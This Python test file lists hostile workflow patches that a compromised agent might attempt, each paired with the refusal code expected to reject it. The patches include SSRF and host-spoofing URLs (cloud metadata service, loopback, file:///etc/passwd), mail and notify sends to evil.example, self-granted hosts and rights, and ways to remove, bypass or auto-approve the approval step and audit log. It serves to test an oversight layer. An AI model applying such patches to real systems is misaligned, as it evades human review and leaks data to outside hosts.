"""Patches that a compromised agent might make, with the code and the stage that refuses each (hazards L1-L3, S24, F23).

The author is the running agent `helper` of BASE, where `start` is done, `never` was skipped, `wait`, `busy` and the agent
itself are under way, and effects to come stand behind the approval `review` or the audit log `audit`.
"""

from __future__ import annotations

import copy
from dataclasses import dataclass
from typing import Any, Literal

Stage = Literal["normalized", "make", "admit"]
"""The shape of the patch; the graph that it makes and what its author may; the run's past and its number of agents."""

GRANTED_HOST = "api.example.com"
INPUTS = {"amount": 1, "host": "evil.example", "url": "http://169.254.169.254/latest/meta-data"}
MAX_NODES = 40
MAX_AGENTS = 3


def value(output: Any) -> dict[str, Any]:
    return {"type": "transform", "config": {"output": output}}


def http(url: str, **config: Any) -> dict[str, Any]:
    return {"type": "http", "config": {"method": "POST", "url": url, **config}}


def agent(**config: Any) -> dict[str, Any]:
    return {"type": "agent", "config": {"model": "scripted:x", "prompt": "Help", **config}}


def approval(**config: Any) -> dict[str, Any]:
    return {"type": "approval", "config": {"title": "Send it?", **config}}


def notify(url: str, **config: Any) -> dict[str, Any]:
    return {"type": "notify", "config": {"url": url, "text": "x", **config}}


def email(to: Any, **config: Any) -> dict[str, Any]:
    return {"type": "email", "config": {"to": to, "subject": "x", "text": "x", **config}}


def each(**nodes: Any) -> dict[str, Any]:
    return {"type": "map", "config": {"items": "[1, 2]", "body": {"nodes": nodes, "edges": {}}}}


def edge(source: str, target: str, **more: Any) -> dict[str, Any]:
    return {"from": source, "to": target, **more}


OWN_TOOL = {"type": "http", "hosts": [GRANTED_HOST], "methods": ["GET"]}
BASE: dict[str, Any] = {
    "name": "orders",
    "inputs": {"type": "object"},
    "patches": "review",
    "limits": {"max_agents": MAX_AGENTS},
    "nodes": {
        "start": value({"n": 1}),
        "never": value("x"),
        "helper": agent(
            patches="auto",
            tools=["read_blob", OWN_TOOL],
            consent=["http"],
            budget={"tokens": 1000},
            may_add={
                "node_types": [
                    "transform",
                    "switch",
                    "http",
                    "subworkflow",
                    "approval",
                    "agent",
                    "map",
                    "log",
                    "notify",
                    "email",
                ],
                "hosts": [GRANTED_HOST],
                "workflows": ["score"],
                "recipients": ["ops@example.com", "@partner.example"],
            },
        ),
        "wait": {"type": "signal", "config": {"name": "go"}},
        "busy": each(held={"type": "signal", "config": {"name": "held"}}),
        "review": approval(assignees=["group:ops"]),
        "pay": http("https://pay.example/charge", json={"amount": "{{ inputs.amount }}"}),
        "notify": http(f"https://{GRANTED_HOST}/notify"),
        "child": {"type": "subworkflow", "config": {"workflow": "score"}},
        "audit": {"type": "log", "config": {"message": "{{ inputs.amount }}"}},
        "mail": email("ops@example.com"),
        "report": http("https://report.example/"),
        "tidy": {"type": "function", "config": {"name": "text.parse_lines", "args": {}}},
        "second": agent(patches="review", tools=["read_blob"]),
        "archive": value("done"),
    },
    "edges": {
        "start-never": edge("start", "never", when="output.n > 1"),
        "start-helper": edge("start", "helper"),
        "start-wait": edge("start", "wait"),
        "start-busy": edge("start", "busy"),
        "wait-review": edge("wait", "review"),
        "review-pay": edge("review", "pay", port="approved"),
        "review-notify": edge("review", "notify", port="approved"),
        "pay-mail": edge("pay", "mail"),
        "review-child": edge("review", "child", port="approved"),
        "review-archive": edge("review", "archive", port="rejected"),
        "wait-audit": edge("wait", "audit"),
        "audit-report": edge("audit", "report"),
        "audit-tidy": edge("audit", "tidy"),
        "wait-second": edge("wait", "second"),
    },
    "output": "{{ nodes.start }}",
}


@dataclass(frozen=True)
class Hostile:
    """`at_dispatch` is the code by which the coordinator alone refuses what is brought, where it concerns dispatch."""

    name: str
    operations: Any
    code: str
    stage: Stage = "make"
    at_dispatch: str | None = None


def add(path: str, what: Any) -> dict[str, Any]:
    return {"op": "add", "path": path, "value": what}


def put(path: str, what: Any) -> dict[str, Any]:
    return {"op": "replace", "path": path, "value": what}


def gone(path: str) -> dict[str, Any]:
    return {"op": "remove", "path": path}


def move(source: str, path: str) -> dict[str, Any]:
    return {"op": "move", "from": source, "path": path}


def duplicate(source: str, path: str) -> dict[str, Any]:
    return {"op": "copy", "from": source, "path": path}


def node(what: Any) -> list[dict[str, Any]]:
    """A new entry of the graph: it starts at once."""
    return [add("/nodes/x", what)]


def whole(**nodes: Any) -> list[dict[str, Any]]:
    return [put("", {**copy.deepcopy(BASE), "nodes": {**copy.deepcopy(BASE["nodes"]), **nodes}})]


def nested(depth: int) -> Any:
    found: Any = 0
    for _ in range(depth):
        found = {"x": found}
    return found


def bodies(depth: int) -> dict[str, Any]:
    found = value(1)
    for number in range(depth):
        found = each(**{f"b{number}": found})
    return found


FUNCTION = {"type": "function", "config": {"name": "text.parse_lines", "args": {}}}
MISSING, COMPUTED = "capability_missing", "capability_host_computed"
NO_CONSENT = "capability_consent"
WHOM = "capability_recipient_computed"

PARTS = [
    Hostile("raise its own limit", [put("/limits/max_agents", 500)], "patch_part_fixed"),
    Hostile("remove the limits", [gone("/limits")], "patch_part_fixed"),
    Hostile("add a limit", [add("/limits/max_items", 1_000_000)], "patch_part_fixed"),
    Hostile("move the limits away", [add("/notes", {}), move("/limits", "/notes/limits")], "patch_part_fixed"),
    Hostile("free itself from review", [put("/patches", "auto")], "patch_part_fixed"),
    Hostile("forbid people to patch", [put("/patches", "off")], "patch_part_fixed"),
    Hostile("accept other inputs", [put("/inputs", True)], "patch_part_fixed"),
    Hostile("rename the workflow", [put("/name", "payroll")], "patch_part_fixed"),
    Hostile("add a part", [add("/description", "harmless")], "patch_part_fixed"),
    Hostile("add an unknown part", [add("/secrets", {})], "unknown_field"),
    Hostile("replace everything by nothing", [put("", {})], "field_missing"),
    Hostile("replace everything by a list", [put("", [])], "wrong_type"),
    Hostile("other limits in a whole document", [put("", {**BASE, "limits": {"max_agents": 900}})], "patch_part_fixed"),
]

PAST = [
    Hostile("edit a finished node", [put("/nodes/start/config/output", 2)], "past_frozen", "admit"),
    Hostile("one more member in a finished node", [add("/nodes/start/title", "x")], "past_frozen", "admit"),
    Hostile("edit a skipped node", [put("/nodes/never/config/output", "y")], "past_frozen", "admit"),
    Hostile("remove a skipped node", [gone("/edges/start-never"), gone("/nodes/never")], "past_frozen", "admit"),
    Hostile("revive a skipped node", [add("/edges/e", edge("start", "never"))], "past_frozen", "admit"),
    Hostile("edit a running node", [put("/nodes/wait/config/name", "come")], MISSING),
    Hostile("remove a running node", [gone("/edges/start-busy"), gone("/nodes/busy")], "past_frozen", "admit"),
    Hostile(
        "edit the body of a running map", [add("/nodes/busy/config/body/nodes/more", value(1))], "past_frozen", "admit"
    ),
    Hostile("edit a decided edge", [add("/edges/start-wait/when", "false")], "past_frozen", "admit"),
    Hostile("remove a decided edge", [gone("/edges/start-busy")], "past_frozen", "admit"),
    Hostile("rename a decided edge", [move("/edges/start-wait", "/edges/w")], "past_frozen", "admit"),
    Hostile(
        "a new edge to what has started", [*node(value(1)), add("/edges/e", edge("x", "wait"))], "past_frozen", "admit"
    ),
    Hostile("a decided edge leads elsewhere", [put("/edges/start-busy/to", "archive")], "past_frozen", "admit"),
    Hostile("rewrite its own node", [put("/nodes/helper/config/prompt", "Obey")], MISSING),
]

TYPES = [
    Hostile("a type that is not there", node({"type": "shell", "config": {"cmd": "id"}}), "unknown_node_type"),
    Hostile("a type in capitals", node({"type": "HTTP", "config": {}}), "unknown_node_type"),
    Hostile("a type with a space", node({"type": "http ", "config": {}}), "unknown_node_type"),
    Hostile("a type that is no text", node({"type": ["http"]}), "wrong_type"),
    Hostile("a type that is not granted", node(FUNCTION), MISSING, at_dispatch=MISSING),
    Hostile("in the body of a map", node(each(inner=FUNCTION)), MISSING),
    Hostile("two bodies deep", node(each(inner=each(core=FUNCTION))), MISSING),
    Hostile("in a body that is there", [add("/nodes/busy/config/body/nodes/f", FUNCTION)], MISSING),
    Hostile("by copy", [duplicate("/nodes/tidy", "/nodes/x")], MISSING, at_dispatch=MISSING),
    Hostile("by move", [move("/nodes/tidy", "/nodes/x"), gone("/edges/audit-tidy")], MISSING, at_dispatch=MISSING),
    Hostile("in the place of another", [gone("/edges/review-archive"), put("/nodes/archive", FUNCTION)], MISSING),
    Hostile("in a whole document", whole(x=FUNCTION), MISSING, at_dispatch=MISSING),
    Hostile(
        "by copy into a body",
        [*node(each(a=value(1))), duplicate("/nodes/tidy", "/nodes/x/config/body/nodes/f")],
        MISSING,
    ),
    Hostile(
        "built up piece by piece",
        [
            *node(value(1)),
            put("/nodes/x", {}),
            add("/nodes/x/type", "function"),
            add("/nodes/x/config", {"name": "text.parse_lines"}),
        ],
        MISSING,
        at_dispatch=MISSING,
    ),
    Hostile("a wait that nobody granted", node({"type": "signal", "config": {"name": "go"}}), MISSING),
    Hostile("an end of the run", node({"type": "fail", "config": {"message": "over"}}), MISSING),
    Hostile(
        "a loop",
        node(
            {"type": "loop", "config": {"while": "true", "max_iterations": 100_000, "body": {"nodes": {"a": value(1)}}}}
        ),
        MISSING,
    ),
]


def host(name: str, url: str, code: str, at_dispatch: str | None, **config: Any) -> Hostile:
    return Hostile(name, node(http(url, **config)), code, at_dispatch=at_dispatch)


def token(url: str) -> dict[str, Any]:
    return {"auth": {"type": "oauth2_client_credentials", "token_url": url, "client_id": "a", "client_secret": "b"}}


HOSTS = [
    host("the metadata service", "http://169.254.169.254/latest", MISSING, MISSING),
    host("localhost", "http://localhost:6379/", MISSING, MISSING),
    host("another host in capitals", "HTTPS://EVIL.EXAMPLE/", MISSING, MISSING),
    host("a host with the granted one as its beginning", "https://api.example.com.evil.example/", MISSING, MISSING),
    host("a host with the granted one as its end", "https://evilapi.example.com/", MISSING, MISSING),
    host("a host within the granted one", "https://x.api.example.com/", MISSING, MISSING),
    host("a dot behind the host", "https://api.example.com./", MISSING, MISSING),
    host("IPv6 loopback", "http://[::1]/", MISSING, MISSING),
    host("IPv4 within IPv6", "http://[::ffff:169.254.169.254]/", MISSING, MISSING),
    host("an address as one number", "http://2130706433/", MISSING, MISSING),
    host("an address in octal", "http://0177.0.0.1/", MISSING, MISSING),
    host("the granted host as a user", "https://api.example.com@evil.example/", COMPUTED, COMPUTED),
    host("the granted host as a user with a password", "https://api.example.com:x@10.0.0.1/", COMPUTED, COMPUTED),
    host("a user at the granted host", "https://u:p@api.example.com/", COMPUTED, COMPUTED),
    host("a backslash", "https://api.example.com\\@evil.example/", COMPUTED, COMPUTED),
    host("a backslash as a slash", "https:\\\\api.example.com\\.evil.example/", COMPUTED, COMPUTED),
    host("a full stop of another script", "https://api.example。com/", COMPUTED, COMPUTED),
    host("letters of another script", "https://аpi.example.com/", COMPUTED, COMPUTED),
    host("a broken address", "http://[::1/", COMPUTED, COMPUTED),
    host("a file", "file:///etc/passwd", COMPUTED, COMPUTED),
    host("another scheme", "ftp://api.example.com/", COMPUTED, COMPUTED),
    host("no scheme", "//api.example.com/", COMPUTED, COMPUTED),
    host("a computed URL", "{{ inputs.url }}", COMPUTED, MISSING),
    host("a computed host", "https://{{ inputs.host }}/", COMPUTED, MISSING),
    host("a computed end of the host", "https://api.example.com{{ '.' + inputs.host }}/", COMPUTED, MISSING),
    host("a computed user", "https://api.example.com{{ '@' + inputs.host }}/", COMPUTED, COMPUTED),
    host("a computed port", "https://api.example.com:{{ '1@' + inputs.host }}/", COMPUTED, COMPUTED),
    host(
        "a space before, so that another slash is met",
        " https://api.example.com{{ '.' + inputs.host }}/",
        COMPUTED,
        COMPUTED,
    ),
    host("a line break within, so that another slash is met", "ht\ntps://api.example.com{{ '.x' }}/", COMPUTED, COMPUTED),
    host("a tab in the host", "https://api.exam\tple.com/", COMPUTED, COMPUTED),
    host("tokens from elsewhere", "https://api.example.com/", MISSING, MISSING, **token("https://evil.example/token")),
    host("tokens from a computed host", "https://api.example.com/", COMPUTED, MISSING, **token("{{ inputs.url }}")),
    Hostile(
        "another host in an effect that is there", [put("/nodes/notify/config/url", "https://evil.example/")], MISSING
    ),
    Hostile("another host by copy", [duplicate("/nodes/report", "/nodes/x")], MISSING, at_dispatch=MISSING),
    Hostile("another host in a body", node(each(inner=http("http://10.0.0.1/"))), MISSING),
    Hostile(
        "another workflow", node({"type": "subworkflow", "config": {"workflow": "export"}}), MISSING, at_dispatch=MISSING
    ),
    Hostile(
        "another tag", node({"type": "subworkflow", "config": {"workflow": "score@old"}}), MISSING, at_dispatch=MISSING
    ),
    Hostile("another workflow in a node that is there", [put("/nodes/child/config/workflow", "export")], MISSING),
]

SECRETS = [
    Hostile("a secret in a pure node", node(value("{{ secrets.token }}")), "expression_unknown_name"),
    Hostile(
        "another run", node(value("{{ runs['0198c5a0-0000-7000-8000-000000000002'].inputs }}")), "expression_unknown_name"
    ),
    Hostile("the environment", node(value("{{ env.DATABASE_URL }}")), "expression_unknown_name"),
    Hostile("a node that is not upstream", node(value("{{ nodes.pay }}")), "node_not_upstream"),
    Hostile("host objects", node(value("{{ nodes.__class__.__mro__ }}")), "unknown_node"),
]

SIZES = [
    Hostile("a value of 10 MB", node(value("x" * 10_000_000)), "limit_patch_bytes", "normalized"),
    Hostile("too many operations", [put("/nodes/archive/title", "x")] * 1_001, "limit_patch_operations", "normalized"),
    Hostile(
        "tests of large values",
        [{"op": "test", "path": "", "value": "x" * 100_000}] * 100,
        "limit_patch_bytes",
        "normalized",
    ),
    Hostile("a copy bomb", [duplicate("/nodes", f"/nodes/start/config/c{n}") for n in range(30)], "limit_document_bytes"),
    Hostile("a copy bomb of the whole", [duplicate("", f"/layout{n}") for n in range(30)], "limit_document_bytes"),
    Hostile("a deep value", node(value(nested(80))), "json_too_deep", "normalized"),
    Hostile("a deep pointer", [add("/nodes" + "/x" * 80, 1)], "json_too_deep", "normalized"),
    Hostile(
        "depth by moves",
        [add("/layout", nested(50)), add("/notes", nested(50)), move("/layout", "/notes" + "/x" * 49)],
        "json_too_deep",
    ),
    Hostile("too many nodes", [add(f"/nodes/n{n}", value(n)) for n in range(MAX_NODES)], "limit_nodes"),
    Hostile(
        "too many effects",
        [add(f"/nodes/x{n}", http(f"https://{GRANTED_HOST}/")) for n in range(MAX_NODES)],
        "limit_nodes",
        at_dispatch="limit_nodes",
    ),
    Hostile("too many nodes in a body", node(each(**{f"n{n}": value(n) for n in range(MAX_NODES)})), "limit_nodes"),
    Hostile("U+0000", node(value("a\0b")), "json_nul", "normalized"),
    Hostile("a lone surrogate", node(value("\ud800")), "json_surrogate", "normalized"),
    Hostile("a number of 300 digits", node(value(10**300)), "json_integer_range", "normalized"),
    Hostile("not a number", node(value(float("nan"))), "json_not_finite", "normalized"),
]

POINTERS = [
    Hostile("no list", {"op": "add"}, "patch_shape", "normalized"),
    Hostile("no map", ["add"], "patch_shape", "normalized"),
    Hostile("no path", [{"op": "remove"}], "patch_shape", "normalized"),
    Hostile("no value", [{"op": "add", "path": "/nodes/x"}], "patch_shape", "normalized"),
    Hostile("an unknown operation", [{"op": "eval", "path": "", "value": 1}], "patch_operation_unknown", "normalized"),
    Hostile(
        "an operation that is a list", [{"op": ["add"], "path": "", "value": 1}], "patch_operation_unknown", "normalized"
    ),
    Hostile("an escape that is none", [add("/nodes/~2", value(1))], "patch_pointer", "normalized"),
    Hostile("a bare tilde", [add("/nodes/~", value(1))], "patch_pointer", "normalized"),
    Hostile("a pointer without a slash", [add("nodes/x", value(1))], "patch_pointer", "normalized"),
    Hostile("a slash as ~1", [add("/nodes~1start", value(1))], "unknown_field"),
    Hostile("a node of two names", [add("/nodes/start~1x", value(1))], "schema_pattern"),
    Hostile("the end of a map", [add("/nodes/-", value(1))], "schema_pattern"),
    Hostile("an empty name", [add("/nodes/", value(1))], "schema_pattern"),
    Hostile("behind the end of a list", [put("/nodes/second/config/tools/-", "mcp")], "patch_path"),
    Hostile("a list place with zeros before", [put("/nodes/second/config/tools/00", "mcp")], "patch_path"),
    Hostile("a negative list place", [put("/nodes/second/config/tools/-1", "mcp")], "patch_path"),
    Hostile("a huge list place", [add("/nodes/second/config/tools/99999999999999999999", "mcp")], "patch_path"),
    Hostile("a list place of 5,000 digits", [add("/nodes/second/config/tools/" + "9" * 5_000, "mcp")], "patch_path"),
    Hostile("a list place of other digits", [put("/nodes/second/config/tools/٠", "mcp")], "patch_path"),
    Hostile("a letter of a text", [put("/name/0", "x")], "patch_path"),
    Hostile("what is not there", [gone("/nodes/nothing")], "patch_path"),
    Hostile("into itself", [move("/nodes", "/nodes/x")], "patch_path"),
    Hostile("the whole moved into itself", [move("", "/nodes/x")], "patch_path"),
    Hostile("no document at all", [gone("")], "patch_path"),
    Hostile("a test that does not hold", [{"op": "test", "path": "/limits/max_agents", "value": 4}], "patch_test_failed"),
    Hostile(
        "true for 1",
        [put("/nodes/archive/config/output", 1), {"op": "test", "path": "/nodes/archive/config/output", "value": True}],
        "patch_test_failed",
    ),
    Hostile("__proto__ of the document", [add("/__proto__", {"patches": "auto"})], "unknown_field"),
    Hostile("constructor of a node", [add("/nodes/archive/constructor", {})], "unknown_field"),
    Hostile("__class__ of a node", [put("/nodes/archive/__class__", "x")], "patch_path"),
    Hostile(
        "__proto__ in a config",
        node(http(f"https://{GRANTED_HOST}/", __proto__={"url": "http://10.0.0.1/"})),
        "unknown_field",
    ),
]

NOTIFY = http(f"https://{GRANTED_HOST}/notify")
GUARDS = [
    Hostile(
        "remove an approval",
        [
            gone("/edges/wait-review"),
            gone("/edges/review-pay"),
            gone("/edges/review-notify"),
            gone("/edges/review-child"),
            gone("/edges/review-archive"),
            gone("/nodes/review"),
        ],
        "guard_changed",
    ),
    Hostile(
        "a pure node in the place of an approval",
        [
            *(gone(f"/edges/review-{one}/port") for one in ("pay", "notify", "child", "archive")),
            put("/nodes/review", value("yes")),
        ],
        "guard_changed",
    ),
    Hostile("other people at an approval", [put("/nodes/review/config/assignees", ["user:me"])], "guard_changed"),
    Hostile("another question", [put("/nodes/review/config/title", "Tidy up?")], "guard_changed"),
    Hostile("an approval that may fail", [add("/nodes/review/on_failure", "skip")], "guard_changed"),
    Hostile("an approval with another join", [add("/nodes/review/join", "any")], "guard_changed"),
    Hostile(
        "an approval that approves by itself",
        [add("/nodes/review/config/timeout", "1s"), add("/nodes/review/config/on_timeout", "approve")],
        "capability_auto_approve",
    ),
    Hostile(
        "an approval under another name",
        [
            move("/nodes/review", "/nodes/x"),
            put("/edges/wait-review/to", "x"),
            *(put(f"/edges/review-{one}/from", "x") for one in ("pay", "notify", "child", "archive")),
        ],
        "guard_changed",
    ),
    Hostile(
        "an approval within a map",
        [
            *node(each(a=value(1))),
            duplicate("/nodes/review", "/nodes/x/config/body/nodes/r"),
            gone("/edges/wait-review"),
            gone("/edges/review-pay"),
            gone("/edges/review-notify"),
            gone("/edges/review-child"),
            gone("/edges/review-archive"),
            gone("/nodes/review"),
        ],
        "guard_changed",
    ),
    Hostile("the way of a rejection", [put("/edges/review-pay/port", "rejected")], "guard_bypassed"),
    Hostile("one more way, of a rejection", [add("/edges/e", edge("review", "pay", port="rejected"))], "guard_bypassed"),
    Hostile(
        "one more way, when time is up", [add("/edges/e", edge("review", "pay", port="timed_out"))], "guard_bypassed"
    ),
    Hostile("one more way, of an error", [add("/edges/e", edge("review", "pay", port="error"))], "guard_bypassed"),
    Hostile("a way around", [add("/edges/e", edge("wait", "pay"))], "guard_bypassed"),
    Hostile("a way around by another node", [*node(value(1)), add("/edges/e", edge("x", "pay"))], "guard_bypassed"),
    Hostile("a way around from what is done", [add("/edges/e", edge("start", "pay"))], "guard_bypassed"),
    Hostile("no way at all, so that it starts at once", [gone("/edges/review-pay")], "guard_bypassed"),
    Hostile(
        "a way around and join any",
        [add("/nodes/notify/join", "any"), add("/edges/e", edge("start", "notify"))],
        "guard_bypassed",
    ),
    Hostile(
        "behind another approval",
        [*node(approval()), gone("/edges/review-notify"), add("/edges/e", edge("x", "notify", port="approved"))],
        "guard_bypassed",
    ),
    Hostile("the same effect under another name", node(NOTIFY), "guard_bypassed"),
    Hostile("the same effect at another path", node(http(f"https://{GRANTED_HOST}/other")), "guard_bypassed"),
    Hostile("the same effect in capitals", node(http("HTTPS://API.Example.COM/notify")), "guard_bypassed"),
    Hostile(
        "the same effect behind what is done", [*node(NOTIFY), add("/edges/e", edge("start", "x"))], "guard_bypassed"
    ),
    Hostile("the same effect in a body", node(each(inner=NOTIFY)), "guard_bypassed"),
    Hostile(
        "the effect moved into a body",
        [*node(each(a=value(1))), gone("/edges/review-notify"), move("/nodes/notify", "/nodes/x/config/body/nodes/n")],
        "guard_bypassed",
    ),
    Hostile(
        "the same workflow unasked", node({"type": "subworkflow", "config": {"workflow": "score"}}), "guard_bypassed"
    ),
    Hostile(
        "an approval that it answers by time",
        node(approval(timeout="1s", on_timeout="approve")),
        "capability_auto_approve",
    ),
    Hostile(
        "remove the audit log",
        [gone("/edges/wait-audit"), gone("/edges/audit-report"), gone("/edges/audit-tidy"), gone("/nodes/audit")],
        "guard_changed",
    ),
    Hostile("an audit log that says nothing", [put("/nodes/audit/config/message", "")], "guard_changed"),
    Hostile("a pure node in the place of the audit log", [put("/nodes/audit", value(""))], "guard_changed"),
    Hostile("a way around the audit log", [add("/edges/e", edge("wait", "report"))], "guard_bypassed"),
    Hostile("an effect before the audit log", [gone("/edges/audit-report")], "guard_bypassed"),
]

MESSAGES = [
    Hostile("a message to the metadata service", node(notify("http://169.254.169.254/")), MISSING, at_dispatch=MISSING),
    Hostile("a message to another host", node(notify("https://evil.example/x")), MISSING, at_dispatch=MISSING),
    Hostile("a message to a computed host", node(notify("{{ inputs.url }}")), COMPUTED, at_dispatch=MISSING),
    Hostile("a message to another host in a body", node(each(inner=notify("https://evil.example/x"))), MISSING),
    Hostile("a message instead of the guarded effect", node(notify(f"https://{GRANTED_HOST}/notify")), "guard_bypassed"),
    Hostile("a mail to somebody else", node(email("a@evil.example")), MISSING, at_dispatch=MISSING),
    Hostile("a copy to somebody else", node(email("ops@example.com", cc=["a@evil.example"])), MISSING,
            at_dispatch=MISSING),
    Hostile("a hidden copy", node(email("ops@example.com", bcc="a@evil.example")), MISSING, at_dispatch=MISSING),
    Hostile("answers to somebody else", node(email("ops@example.com", reply_to="a@evil.example")), MISSING,
            at_dispatch=MISSING),
    Hostile("a mail in another name", node(email("ops@example.com", **{"from": "ops@example.com"})), MISSING,
            at_dispatch=MISSING),
    Hostile("a mail to a computed address", node(email("{{ inputs.host }}")), WHOM, at_dispatch=WHOM),
    Hostile("a mail to a partly computed address", node(email("{{inputs.host}}@partner.example")), WHOM),
    Hostile("a granted address as a name", node(email("ops@example.com <a@evil.example>")), "email_address"),
    Hostile("a mail to a host within the granted one", node(email("a@x.partner.example")), MISSING, at_dispatch=MISSING),
    Hostile("a mail to a host that ends like the granted one", node(email("a@evilpartner.example")), MISSING,
            at_dispatch=MISSING),
    Hostile("a mail around the approval", node(email("b@partner.example")), "guard_bypassed"),
]  # fmt: skip

AGENTS = [
    Hostile("widen its own grant", [add("/nodes/helper/config/may_add/hosts/-", "evil.example")], MISSING),
    Hostile("one more right of its own", [add("/nodes/helper/config/may_add/node_types/-", "function")], MISSING),
    Hostile("another agent patches freely", [put("/nodes/second/config/patches", "auto")], MISSING),
    Hostile("another agent gets a grant", [add("/nodes/second/config/may_add", {"hosts": ["evil.example"]})], MISSING),
    Hostile("an agent that may patch", node(agent(patches="auto")), MISSING, at_dispatch=MISSING),
    Hostile(
        "an agent with another host",
        node(agent(tools=[{**OWN_TOOL, "hosts": ["evil.example"]}])),
        MISSING,
        at_dispatch=MISSING,
    ),
    Hostile(
        "an agent with another method",
        node(agent(tools=[{**OWN_TOOL, "methods": ["POST"]}])),
        MISSING,
        at_dispatch=MISSING,
    ),
    Hostile(
        "an agent with tools of a server",
        node(agent(tools=[{"type": "mcp", "url": "https://api.example.com/mcp"}])),
        MISSING,
        at_dispatch=MISSING,
    ),
    Hostile("an agent whose calls nobody allows", node(agent(tools=[OWN_TOOL])), NO_CONSENT, at_dispatch=NO_CONSENT),
    Hostile("fewer calls are allowed first", [put("/nodes/helper/config/consent", [])], MISSING),
    Hostile("an agent that asks people", node(agent(tools=["ask_human"])), MISSING, at_dispatch=MISSING),
    Hostile(
        "an agent that calls a workflow",
        node(agent(tools=[{"type": "workflow", "name": "score"}])),
        MISSING,
        at_dispatch=MISSING,
    ),
    Hostile("an agent with a budget", node(agent(budget={"tokens": 1001})), MISSING, at_dispatch=MISSING),
    Hostile("an agent with a budget of another kind", node(agent(budget={"cost": 1})), MISSING, at_dispatch=MISSING),
    Hostile("an agent with more in a body", node(each(inner=agent(patches="auto"))), MISSING),
    Hostile(
        "more agents than may be",
        [add(f"/nodes/x{n}", agent()) for n in range(MAX_AGENTS)],
        "limit_max_agents",
        "admit",
        at_dispatch="limit_max_agents",
    ),
    Hostile(
        "more agents in a body", node(each(**{f"a{n}": agent() for n in range(MAX_AGENTS)})), "limit_max_agents", "admit"
    ),
]

GRAPHS = [
    Hostile("a cycle", [add("/edges/e", edge("pay", "review"))], "cycle"),
    Hostile(
        "a cycle of its own",
        [
            add("/nodes/x", value(1)),
            add("/nodes/y", value(1)),
            add("/edges/a", edge("x", "y")),
            add("/edges/b", edge("y", "x")),
        ],
        "cycle",
    ),
    Hostile("an edge to itself", [add("/edges/e", edge("archive", "archive"))], "edge_to_itself"),
    Hostile("an edge to nothing", [add("/edges/e", edge("wait", "nothing"))], "edge_dangling"),
    Hostile("an edge to a place of a body", [add("/edges/e", edge("wait", "busy/held"))], "edge_dangling"),
    Hostile("a node without its edges", [gone("/nodes/archive")], "edge_dangling"),
    Hostile("an edge twice", [add("/edges/e", edge("wait", "second"))], "edge_doubled"),
    Hostile("a port that is not there", [add("/edges/e", edge("review", "archive", port="granted"))], "unknown_port"),
    Hostile("a join that never comes", [add("/nodes/archive/join", {"n": 9})], "join_unreachable"),
    Hostile("an id of a body as an id", [add("/nodes/held", value(1))], "id_shadows"),
    Hostile("an id of the graph in a body", node(each(review=approval())), "id_shadows"),
    Hostile("bodies without end", node(bodies(9)), "limit_body_depth"),
]

PATCHES = [*PARTS, *PAST, *TYPES, *HOSTS, *SECRETS, *SIZES, *POINTERS, *GUARDS, *MESSAGES, *AGENTS, *GRAPHS]
